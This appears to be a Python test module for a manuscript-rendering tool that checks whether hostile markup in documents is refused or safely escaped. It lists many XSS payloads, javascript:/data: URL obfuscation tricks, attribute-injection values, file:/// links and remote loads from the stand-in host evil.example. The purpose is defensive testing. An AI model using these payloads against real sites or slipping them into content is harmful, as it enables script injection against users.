"""W: markup that acts or loads, in manuscripts and in their links."""

from collections.abc import Iterator

from hostile.case import Case, Expect
from hostile.generated.books import of_text, together

EVIL = ("evil.example", "alert(1)")

_HTML = {
    "handler": "<img src=x onerror=alert(1)>",
    "inline-handler": 'A word <b onmouseover="alert(1)">here</b>.',
    "svg-onload": "<svg onload=alert(1)>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-in-comment": "<!--><script>alert(1)</script>-->",
    "script-capital": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "attachment-link": "<link rel=attachment href=file:///etc/hostname>",
    "attachment-a": "<a rel=attachment href=file:///etc/hostname>x</a>",
    "style-import": "<style>@import url(http://evil.example/x.css);</style>",
    "style-attribute": '<p style="background:url(http://evil.example/x.png)">x</p>',
    "remote-picture": "<img src=http://evil.example/x.png>",
    "base": "<base href=http://evil.example/>",
    "refresh": "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "video": "<video src=http://evil.example/x.mp4 autoplay></video>",
    "template": "<template><script>alert(1)</script></template>",
    "math": "<math href=javascript:alert(1)>x</math>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml-stylesheet href=http://evil.example/x.css?>",
    "doctype": "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>",
    "unclosed": "<img src=http://evil.example/x.png onerror=alert(1)",
    "nested-divs": "<div>" * 150,
    "wide-colspan": "<table><td colspan=100000>x</table>",
}

_LINKS = {
    "javascript": "[x](javascript:alert(1))",
    "javascript-capital": "[x](JaVaScRiPt:alert(1))",
    "javascript-entity": "[x](&#106;avascript:alert(1))",
    "javascript-hex-entity": "[x](&#x6A;&#x61;vascript:alert(1))",
    "javascript-colon": "[x](javascript&colon;alert(1))",
    "javascript-tab": "[x](<java&Tab;script:alert(1)>)",
    "javascript-newline": "[x](<java&NewLine;script:alert(1)>)",
    "javascript-space": "[x](< javascript:alert(1)>)",
    "javascript-control": "[x](<&#1;javascript:alert(1)>)",
    "javascript-percent": "[x](%6Aavascript:alert(1))",
    "javascript-escaped": r"[x](java\script:alert\(1\))",
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript-web": "[x](javascript://evil.example/%0aalert(1))",
    "vbscript": "[x](vbscript:alert(1))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "file": "[x](file:///etc/hostname)",
    "relative": "[x](../outside/secret.md)",
    "schemeless": "[x](//evil.example/)",
    "remote-picture": "![x](https://evil.example/x.png)",
    "schemeless-picture": "![x](//evil.example/x.png)",
    "password": "[x](https://user:secret@evil.example/)",
    "intent": "[x](intent://evil.example#Intent;end)",
    "blob": "[x](blob:https://evil.example/1)",
    "no-host": "[x](https:///evil.example)",
    "bad-port": "[x](https://evil.example:99999999/)",
    "bad-bracket": "[x](http://[evil.example)",
    "telephone": "[x](tel:+123)",
}

_INJECTED = {
    "attribute": '[word]{.smallcaps onclick="alert(1)"}',
    "class": '[word]{class="x onclick=alert(1)"}',
    "language": "[word]{lang='en\" onclick=\"alert(1)'}",
    "ruby": '[word]{lang=ko ruby="<script>alert(1)</script>"}',
    "style": "[word]{style=background:url(http://evil.example/)}",
}

_HARMLESS = {
    "markup-as-entities": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    "markup-escaped": (r"\<script>alert(1)\</script>", "<script>alert(1)</script>"),
    "markup-in-code": ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    "code-block": ("    <script>alert(1)</script>\n", "<script>alert(1)</script>"),
    "twice-escaped": ("&amp;lt;b&amp;gt;", "&lt;b&gt;"),
    "jinja": ("{% for x in y %}{{ x }}{% endfor %} {{ ''.__class__ }}", "{{ x }}"),
    "less-than": ("1 < 2 and 3 > 2 & 4", "1 < 2 and 3 > 2 & 4"),
    "cdata-end": ("a ]]> b", "a ]]> b"),
}


def cases() -> Iterator[Case]:
    """All cases of markup."""
    refused = {**{f"html-{name}": text for name, text in _HTML.items()}, **{f"link-{n}": t for n, t in _LINKS.items()}}
    yield from together(
        "W-refused",
        (
            of_text(name, text[:50], f"Hi\n\n{text}\n", Expect.REFUSE, says=("text.md:",), told=False)
            for name, text in refused.items()
        ),
    )
    for name, words in _INJECTED.items():
        yield of_text(f"W-injected-{name}", words, f"Hi\n\nA {words}.\n", Expect.EITHER, says=("text.md:3",))
    harmless = "\n\n".join(written for written, _ in _HARMLESS.values())
    printed = tuple(words for _, words in _HARMLESS.values())
    yield of_text(
        "W-harmless", "signs of markup that are printed", f"Hi\n\n{harmless}\n", Expect.EXACT, printed=printed
    )
    links = (
        "<https://example.org/a?b=c&d=%20#e> [x](https://example.org/ü) <mailto:ana@example.org> https://bare.example"
    )
    yield of_text(
        "W-links-kept", "links as they should be", f"{links}\n", Expect.EXACT, printed=("example.org/a?b=c&d=",)
    )
    caption = 'Hi\n\n![x](pic.png){caption="<script>alert(1)</script>" credit="[y](javascript:alert(1))"}\n'
    yield of_text("W-injected-caption", "markup in a caption", caption, Expect.REFUSE, says=("text.md:3",))
